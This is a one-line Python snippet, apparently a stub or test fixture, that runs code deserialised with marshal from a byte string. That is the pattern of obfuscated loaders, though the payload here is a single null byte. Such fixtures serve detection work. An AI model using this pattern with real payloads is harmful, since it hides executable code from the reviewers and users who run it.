exec(__import__('marshal').loads(b'\x00'))
